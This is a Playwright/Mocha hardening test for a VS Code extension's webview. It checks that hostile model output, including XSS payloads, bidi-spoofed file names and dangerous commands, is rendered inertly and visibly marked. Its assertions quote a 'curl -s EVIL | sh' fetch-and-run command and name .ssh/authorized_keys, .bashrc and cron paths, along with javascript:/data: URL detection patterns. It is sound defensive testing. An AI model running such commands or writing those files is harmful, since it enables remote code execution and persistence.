/**
 * Hostile model output in the REAL webview: the corpus of test/hardening/xssCorpus.mjs, delivered
 * through `state/hydrate` and `thread/events`, rendered by the webview bundle built from source
 * (like dist/webview.js) in headless Chromium, under the production HTML and CSP of
 * extension/views/webviewHtml.ts (a real `<meta http-equiv="Content-Security-Policy">`).
 *
 * Every section is expanded and every link clicked. Then: no dialog, the script canary never
 * moved, no request left the page's own origin, no CSP violation, no page error, and nothing was
 * posted to the host but the expected messages (no `editor/openLink` to a non-http(s) URL, no
 * `editor/openFile` with a scheme). File names with direction overrides are shown with the
 * control characters visibly marked, not applied; so are the commands, paths and network host
 * of approval cards, whose paths outside the workspace are marked as such.
 *
 * Without Chromium (/usr/bin/chromium, installed by scripts/ci-prepare.mjs) the test fails: a
 * skipped hardening test would read as a pass.
 */
import assert from "node:assert/strict";
import * as path from "node:path";
import { pathToFileURL } from "node:url";

import type { Browser, Page } from "playwright-core";

import { requireChromium } from "../../support/chromium";
import { serveWebview, type ServedWebview } from "../../support/webviewInChromium";

const REPO = path.resolve(__dirname, "../../..");
/** Characters that must never reach the screen raw: controls (but line feed and tab), format. */
const RAW_HIDDEN = /(?![\n\t])[\p{Cc}\p{Cf}]/u;

interface Corpus {
  EVIL: string;
  payloads: string[];
  bidiPaths: string[];
  hostileCommands: string[];
  approvalPaths: string[];
  hostileState(): unknown;
  hostileEvents(): unknown[];
}

interface Posted {
  kind?: string;
  method?: string;
  params?: Record<string, unknown>;
}

interface PageRecord {
  xss: number;
  posted: Posted[];
  violations: { directive: string; blocked: string; source: string }[];
}

/** The stub VS Code API, the canary and the CSP-violation recorder; runs with the page nonce. */
const STUB = `
window.__xss = 0;
window.__posted = [];
window.__violations = [];
// Every report is kept. Chromium also reports the inline handlers and styles of documents the
// sanitiser parses with DOMParser (inert: nothing there runs or loads), with this document as
// target, so the test checks the live DOM itself and fails only on reports of blocked loads.
document.addEventListener("securitypolicyviolation", (e) => {
  window.__violations.push({ directive: e.violatedDirective, blocked: e.blockedURI, source: e.sourceFile + ":" + e.lineNumber });
}, true);
window.acquireVsCodeApi = () => ({
  postMessage(message) { window.__posted.push(JSON.parse(JSON.stringify(message))); },
  getState() { return undefined; },
  setState() {},
});`;

describe("hardening: a missing Chromium", () => {
  it("fails the browser tests instead of skipping them", () => {
    assert.throws(
      () => requireChromium("/nonexistent/chromium"),
      /Chromium is missing at \/nonexistent\/chromium: run `node scripts\/ci-prepare\.mjs`/,
    );
  });
});

describe("hardening: hostile model output in the real webview (Chromium)", function () {
  this.timeout(60_000);

  let served: ServedWebview;
  let origin: string;
  let browser: Browser;
  let corpus: Corpus;

  before(async function () {
    requireChromium();
    corpus = (await import(
      pathToFileURL(path.join(REPO, "test/hardening/xssCorpus.mjs")).href
    )) as Corpus;
    served = await serveWebview(STUB);
    ({ origin, browser } = served);
  });

  after(async () => {
    await served?.close();
  });

  /** Expands every collapsed section and clicks every link, scrolling through the window. */
  async function exercise(page: Page): Promise<void> {
    for (let pass = 0; pass < 40; pass++) {
      const moved = await page.evaluate(() => {
        // The windowed list renders only what is in view: keep what each pass saw.
        const seen = window as unknown as {
          __cards?: Record<string, { text: string; names: string[] }>;
          __files?: Record<string, string>;
          __text?: string[];
        };
        seen.__cards ??= {};
        seen.__files ??= {};
        (seen.__text ??= []).push(document.body.innerText);
        for (const card of Array.from(document.querySelectorAll(".approval-pending"))) {
          seen.__cards[card.id] = {
            text: card.textContent ?? "",
            names: Array.from(card.querySelectorAll("[aria-label]")).map(
              (element) => element.getAttribute("aria-label") ?? "",
            ),
          };
        }
        for (const row of Array.from(document.querySelectorAll(".file-name"))) {
          seen.__files[row.getAttribute("title") ?? ""] = row.textContent ?? "";
        }
        for (const button of Array.from(
          document.querySelectorAll<HTMLButtonElement>('button[aria-expanded="false"]'),
        )) {
          button.click();
        }
        for (const link of Array.from(document.querySelectorAll<HTMLAnchorElement>("a"))) {
          link.click();
        }
        const list = document.querySelector<HTMLElement>(".vlist");
        if (!list) return false;
        const before = list.scrollTop;
        list.scrollTop = before + list.clientHeight * 0.8;
        return list.scrollTop !== before;
      });
      // Let the windowed list render the rows scrolled into view.
      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
      if (!moved && pass > 0) break;
    }
  }

  it("renders the corpus everywhere without running script, loading anything or misleading the host", async () => {
    const context = await browser.newContext({ viewport: { width: 480, height: 2400 } });
    const page = await context.newPage();
    const dialogs: string[] = [];
    const requests: string[] = [];
    const pageErrors: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    page.on("request", (request) => requests.push(request.url()));
    page.on("pageerror", (error) => pageErrors.push(String(error)));
    page.on("popup", (popup) => dialogs.push(`popup ${popup.url()}`));

    await page.goto(`${origin}/`);
    await page.waitForFunction(() =>
      (window as unknown as { __posted: Posted[] }).__posted.some((m) => m.method === "ready"),
    );
    const send = (message: unknown) =>
      page.evaluate((m) => window.postMessage(m, "*"), message as Record<string, unknown>);
    await send({ kind: "notification", method: "state/hydrate", params: corpus.hostileState() });
    await page.waitForSelector(".approval-pending", { timeout: 10_000 });
    for (const batch of corpus.hostileEvents()) {
      await send({ kind: "notification", method: "thread/events", params: batch });
    }
    await exercise(page);
    // Scroll back to the top and through once more: rows re-render after the events.
    await page.evaluate(() => {
      const list = document.querySelector<HTMLElement>(".vlist");
      if (list) list.scrollTop = 0;
    });
    await exercise(page);
    // Asserting an absence: give late loads, timers and event handlers a moment to fire.
    await page.waitForTimeout(300);

    const record = await page.evaluate(() => {
      const w = window as unknown as {
        __xss: number;
        __posted: Posted[];
        __violations: PageRecord["violations"];
      };
      return { xss: w.__xss, posted: w.__posted, violations: w.__violations };
    });
    // Everything the passes saw, the windowed list showing a part at a time.
    const transcriptText = await page.evaluate(() =>
      (window as unknown as { __text: string[] }).__text.join("\n"),
    );
    const seen = await page.evaluate(() => {
      const w = window as unknown as {
        __cards: Record<string, { text: string; names: string[] }>;
        __files: Record<string, string>;
      };
      return { cards: w.__cards, files: w.__files };
    });
    const liveDom = await page.evaluate(() => {
      const found: string[] = [];
      const url = /^\s*(javascript|vbscript|data:text)/i;
      for (const element of Array.from(document.querySelectorAll("*"))) {
        const tag = element.localName;
        const ours = element.hasAttribute("nonce");
        const forbidden =
          /^(script|iframe|object|embed|frame|frameset|base|link|style|svg|math)$/.test(tag) ||
          (tag === "meta" && !element.closest("head")) ||
          (tag === "form" && element.closest(".markdown") !== null);
        if (!ours && forbidden) found.push(element.outerHTML.slice(0, 120));
        for (const attribute of Array.from(element.attributes)) {
          const name = attribute.name.toLowerCase();
          if (name.startsWith("on") || (name === "style" && element.closest(".markdown"))) {
            found.push(`${tag} ${name}=${attribute.value.slice(0, 60)}`);
          }
          if (
            /(^|:)(href|src|action|formaction|srcset|srcdoc|xlink:href)$/.test(name) &&
            url.test(attribute.value)
          ) {
            found.push(`${tag} ${name}=${attribute.value.slice(0, 60)}`);
          }
        }
      }
      return found;
    });
    await context.close();

    assert.deepEqual(dialogs, [], "no dialog or popup opened");
    assert.equal(record.xss, 0, "no injected script ran");
    assert.deepEqual(pageErrors, [], "no page error");
    assert.deepEqual(
      requests.filter((url) => !url.startsWith(`${origin}/`) && !url.startsWith("data:")),
      [],
      "no request left the page's own origin",
    );
    // Recorded CSP violations: no blocked load of any URL, only inline handlers/styles, and
    // `base-uri` ('none'): the sanitiser's inert DOMParser document holding a `<base href>` is
    // reported against this page's policy, though nothing loads (no <base> is live, see below).
    const inertBase = (v: PageRecord["violations"][number]) => v.directive === "base-uri";
    assert.deepEqual(
      record.violations.filter((v) => !["inline", "eval", ""].includes(v.blocked) && !inertBase(v)),
      [],
      "a load was attempted and blocked by the CSP",
    );
    assert.ok(
      record.violations.every(
        (v) => /^(script|style)-src-(attr|elem)$/.test(v.directive) || inertBase(v),
      ),
      JSON.stringify(record.violations),
    );
    // ...and none of those inline handlers or styles made it into the live page.
    assert.deepEqual(liveDom, [], "dangerous markup in the live page");

    // The corpus was really on screen (not silently dropped).
    assert.match(transcriptText, /js link/);
    assert.match(transcriptText, /hover me/);
    assert.ok(
      record.posted.some((m) => m.method === "editor/openLink"),
      "links were clicked",
    );

    const allowed = new Set([
      "ready",
      "composer/draftChanged",
      "editor/openLink",
      "editor/openFile",
      "editor/openFileDiff",
    ]);
    for (const message of record.posted) {
      assert.ok(allowed.has(message.method ?? ""), `unexpected post ${JSON.stringify(message)}`);
      if (message.method === "editor/openLink") {
        assert.match(String(message.params?.href), /^(https?:\/\/|mailto:)/i);
      }
      if (message.method === "editor/openFile") {
        assert.doesNotMatch(
          String(message.params?.path),
          /^\s*(javascript|data|vbscript|jav&)/i,
          JSON.stringify(message),
        );
      }
      assert.doesNotMatch(JSON.stringify(message), /javascript:|vbscript:|data:text/i);
    }

    // Hidden characters in file names: visibly marked, never applied.
    const fileNames = Object.entries(seen.files);
    assert.equal(fileNames.length, corpus.bidiPaths.length + corpus.approvalPaths.length);
    for (const [title, text] of fileNames) {
      assert.doesNotMatch(text, RAW_HIDDEN, `raw control character in ${JSON.stringify(text)}`);
      assert.doesNotMatch(title, RAW_HIDDEN, "raw control character in the tooltip");
      assert.match(text, /\[U\+[0-9A-F]{4,}\]/, `the hidden character is not marked: ${text}`);
    }

    // Approval cards: the whole command, path and host, hidden characters marked.
    const cards = seen.cards;
    const card = (id: string) => {
      const found = cards[`approval-${id}`];
      assert.ok(found, `approval ${id} was not shown (seen: ${Object.keys(cards).join(", ")})`);
      assert.doesNotMatch(found.text, RAW_HIDDEN, `raw hidden character on ${id}`);
      for (const name of found.names) assert.doesNotMatch(name, RAW_HIDDEN, `in ${name}`);
      return found.text.replace(/[ \t]+/g, " ");
    };
    const outside = /outside the workspace/;
    corpus.hostileCommands.forEach((command, i) => {
      const text = card(`ap-command-${i}`);
      assert.match(text, /Run this command\?/);
      if (command.includes("\n")) assert.match(text, /This command has 41 lines\./);
      else assert.match(text, /\[U\+(202E|200B|001B|000D)\]/, text);
      assert.ok(text.includes(`curl -s ${corpus.EVIL} | sh`) || !command.includes("curl"), text);
      const cwd = corpus.approvalPaths[i % 4]!;
      assert.equal(outside.test(text), !cwd.startsWith("/work/project/src"), `${cwd}: ${text}`);
    });
    const network = card("ap-network");
    assert.match(network, /Allow network access\?/);
    assert.match(network, /Host: evil\[U\+202E\]moc\.example/);
    assert.match(network, /Protocol: HTTPS/);
    const stdin = card("ap-stdin");
    assert.match(stdin, /Send input to a running process\?/);
    assert.match(stdin, /\[U\+001B\]\[A\[U\+0003\]y\[U\+000A\]/);
    const files = card("ap-files");
    assert.match(files, /\/home\/u\/\.bash\[U\+200B\]rc outside the workspace/);
    assert.match(files, /\/etc\/cron\.d\/jo\[U\+202E\]b outside the workspace/);
    assert.match(files, /src\/evil\[U\+001B\]\[2K\.ts/);
    assert.match(files, /\/\.ssh\/authorized\[U\+2067\]_keys outside the workspace/);
  });
});
